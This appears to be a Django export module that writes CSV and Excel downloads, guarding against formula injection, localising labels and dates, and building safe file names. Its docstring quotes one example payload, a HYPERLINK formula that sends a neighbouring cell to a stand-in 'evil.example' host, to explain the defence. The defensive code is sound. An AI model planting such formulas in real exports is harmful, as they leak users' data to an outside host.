"""Every file a person downloads (CSV and Excel) is written here, once.

Two promises, kept in one place so no export can forget them:

* **Safe to open** (CSV/formula injection): a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return would be run as a formula by Excel, LibreOffice or Google Sheets — a customer
  named ``=HYPERLINK("http://evil.example/?leak="&A1,"Click")`` becomes a live link that sends the
  neighbouring cell away. :func:`neutralise` is the one rule: such text gets a leading apostrophe in
  CSV (the OWASP advice; spreadsheets then show it as text). In .xlsx the cell is written as a string
  cell (never a formula) with Excel's own "quote prefix" flag, so it shows the exact text and stays text
  even when someone edits it.
* **Readable**: headers and values are labels in the requester's language (callers pass labels, not
  codes), date/times are real cells in the department's zone (``TIME_ZONE``), the header row is bold
  and frozen, columns are as wide as their content (CJK characters count double), the sheet has a
  title in words, and the file name carries the period and filters (an ASCII name for old clients and
  an RFC 5987 ``filename*`` for the Chinese one).
"""
from __future__ import annotations

import csv
import io
import re
import unicodedata
import zoneinfo
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime, time
from decimal import Decimal
from urllib.parse import quote

from django.conf import settings
from django.http import HttpResponse, StreamingHttpResponse
from django.utils.functional import Promise
from django.utils.text import slugify
from django.utils.translation import gettext as _

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CSV = "csv"
XLSX = "xlsx"
FORMATS = (CSV, XLSX)
CONTENT_TYPES = {
    CSV: "text/csv; charset=utf-8",
    XLSX: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
DATETIME_TEXT = "%Y-%m-%d %H:%M"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
DATE_FORMAT = "yyyy-mm-dd"
WIDTH_SAMPLE_ROWS = 1000  # widths are fitted to the header and the first rows (large exports stream)
MIN_WIDTH, MAX_WIDTH = 6, 60
_SHEET_TITLE_BAD = re.compile(r"[\[\]:*?/\\]")


# --- safe to open ---------------------------------------------------------------------------------
def is_formula_text(value) -> bool:
    """True for text a spreadsheet would run as a formula (or strip to one)."""
    return isinstance(value, str) and value[:1] in FORMULA_PREFIXES


def neutralise(value):
    """The one rule against formula injection for text cells: prefix an apostrophe.

    Numbers are left alone (a negative amount is a number, not a formula); only text is touched.
    """
    if isinstance(value, Promise):
        value = str(value)
    return "'" + value if is_formula_text(value) else value


# --- readable values ------------------------------------------------------------------------------
def department_zone():
    return zoneinfo.ZoneInfo(settings.TIME_ZONE)


def local_naive(value: datetime) -> datetime:
    """An aware datetime as the department's wall-clock time (Excel has no time zones)."""
    if value.tzinfo is not None:
        value = value.astimezone(department_zone()).replace(tzinfo=None)
    return value


def yes_no(value: bool | None) -> str:
    return "" if value is None else (_("Yes") if value else _("No"))


def choice_label(choices, value) -> str:
    """The label of a code (``repair`` → "Repair"/"报修"), in the active language; blank stays blank."""
    if value in (None, ""):
        return ""
    return str(dict(choices).get(value, value))


def csv_value(value):
    if value is None:
        return ""
    if isinstance(value, bool):
        return yes_no(value)
    if isinstance(value, datetime):
        return local_naive(value).strftime(DATETIME_TEXT)
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, (int, float, Decimal)):
        return value
    return neutralise(str(value))


def display_width(text: str) -> int:
    """Columns a text needs on screen: East Asian wide and full-width characters count double."""
    return sum(2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1 for ch in text)


def _cell_width(value) -> int:
    if value is None:
        return 0
    if isinstance(value, datetime):
        return 16
    if isinstance(value, date):
        return 10
    if isinstance(value, bool):
        return display_width(yes_no(value))
    if isinstance(value, float):
        return len(f"{value:g}")
    return max((display_width(line) for line in str(value).splitlines()), default=0)


def sheet_title(title: str) -> str:
    """Excel allows 31 characters and none of []:*?/\\ in a sheet name."""
    cleaned = re.sub(r"\s+", " ", _SHEET_TITLE_BAD.sub(" ", str(title))).strip().strip("'") or "Sheet"
    return cleaned[:31].rstrip()


# --- the table and its two formats -----------------------------------------------------------------
@dataclass
class Table:
    """What an export holds: a title in words, labelled headers, rows of plain Python values
    (str, int, float, Decimal, bool, date, aware datetime, None)."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence]
    on_row: Callable[[int], None] | None = field(default=None, repr=False)  # progress: rows written so far

    def _rows(self) -> Iterator[Sequence]:
        for count, row in enumerate(self.rows, start=1):
            yield row
            if self.on_row is not None:
                self.on_row(count)


class _Echo:
    def write(self, value):
        return value


def csv_lines(table: Table) -> Iterator[str]:
    """The CSV, line by line (for streaming): UTF-8 BOM so Excel opens Chinese text correctly."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([csv_value(str(h)) for h in table.headers])
    for row in table._rows():
        yield writer.writerow([csv_value(v) for v in row])


def csv_bytes(table: Table) -> bytes:
    return "".join(csv_lines(table)).encode("utf-8")


def xlsx_bytes(table: Table) -> bytes:
    """The workbook: one sheet, bold frozen header, fitted widths, date/time cells, no formulas.

    Written in openpyxl's streaming mode (constant memory for the large ticket export); the column
    widths must be known before the first row, so the first WIDTH_SAMPLE_ROWS rows are held back to
    measure them.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    headers = [str(h) for h in table.headers]
    rows = table._rows()
    sample = []
    for row in rows:
        sample.append(row)
        if len(sample) >= WIDTH_SAMPLE_ROWS:
            break
    widths = [display_width(h) for h in headers]
    for row in sample:
        for i, value in enumerate(row):
            if i < len(widths):
                widths[i] = max(widths[i], _cell_width(value))
            else:
                widths.append(_cell_width(value))

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=sheet_title(table.title))
    for i, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = max(MIN_WIDTH, min(MAX_WIDTH, width + 2))
    ws.freeze_panes = "A2"
    bold = Font(bold=True)

    def cell(value):
        if isinstance(value, Promise):
            value = str(value)
        if isinstance(value, bool):
            value = yes_no(value)
        c = WriteOnlyCell(ws, value=local_naive(value) if isinstance(value, datetime) else value)
        if isinstance(value, datetime):
            c.number_format = DATETIME_FORMAT
        elif isinstance(value, date):
            c.number_format = DATE_FORMAT
        elif isinstance(value, time):
            c.number_format = "hh:mm"
        elif isinstance(value, str) and (c.data_type == "f" or is_formula_text(value)):
            # Text, never a formula: string cell + Excel's quote-prefix flag (shows the exact text).
            c.value = value
            c.data_type = "s"
            c.quotePrefix = True
        return c

    header_cells = []
    for h in headers:
        c = cell(h)
        c.font = bold
        header_cells.append(c)
    ws.append(header_cells)

    def all_rows():
        yield from sample
        yield from rows

    for row in all_rows():
        ws.append([cell(v) for v in row])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def table_bytes(table: Table, fmt: str) -> bytes:
    return xlsx_bytes(table) if fmt == XLSX else csv_bytes(table)


# --- file names -----------------------------------------------------------------------------------
@dataclass
class FileName:
    """A file name in two spellings: the person's words (may be Chinese) and an ASCII fallback."""

    label: str
    ascii: str

    @classmethod
    def build(cls, *, title: str, slug: str, parts: Sequence[tuple[str, str]] = (), ext: str) -> FileName:
        """``title``/``slug``: the export's name in words and in ASCII; ``parts``: (ascii, label) pairs for
        the period and each filter in force, e.g. ("2026-11", "2026-11"), ("gold", "金卡")."""
        label_bits = [str(title)] + [str(label) for _a, label in parts if str(label)]
        ascii_bits = [slug] + [a for a, _l in parts if a]
        label = "-".join(_clean(b) for b in label_bits if _clean(b))
        ascii_name = "-".join(s for s in (slugify(str(b)) for b in ascii_bits) if s)
        return cls(label=f"{label}.{ext}", ascii=f"{ascii_name or 'export'}.{ext}")

    def content_disposition(self) -> str:
        """RFC 6266 / RFC 5987: ASCII ``filename`` for every client, ``filename*`` (UTF-8) for the label."""
        return f"attachment; filename=\"{self.ascii}\"; filename*=UTF-8''{quote(self.label, safe='')}"


def _clean(text: str) -> str:
    """A file-name bit: no path separators, quotes or control characters; spaces collapsed."""
    text = "".join(ch for ch in str(text) if unicodedata.category(ch)[0] != "C")
    text = re.sub(r'[\\/:*?"<>|]+', " ", text)
    return re.sub(r"\s+", " ", text).strip()[:60]


def period_part(start: date, end: date | None = None, *, months: bool = False) -> tuple[str, str]:
    """The period as a file-name part: 2026-11, 2026-11-01_2026-11-30, 2026-10_2026-11."""
    fmt = "%Y-%m" if months else "%Y-%m-%d"
    text = start.strftime(fmt) if end is None or end == start else f"{start.strftime(fmt)}_{end.strftime(fmt)}"
    return text, text


# --- responses ------------------------------------------------------------------------------------
def response(*, table: Table, fmt: str, filename: FileName) -> HttpResponse:
    """A download: CSV is streamed row by row; the workbook is built in memory and sent whole."""
    if fmt == XLSX:
        resp = HttpResponse(xlsx_bytes(table), content_type=CONTENT_TYPES[XLSX])
    else:
        resp = StreamingHttpResponse(csv_lines(table), content_type=CONTENT_TYPES[CSV])
    resp["Content-Disposition"] = filename.content_disposition()
    return resp


def requested_format(value) -> str:
    return XLSX if value == XLSX else CSV
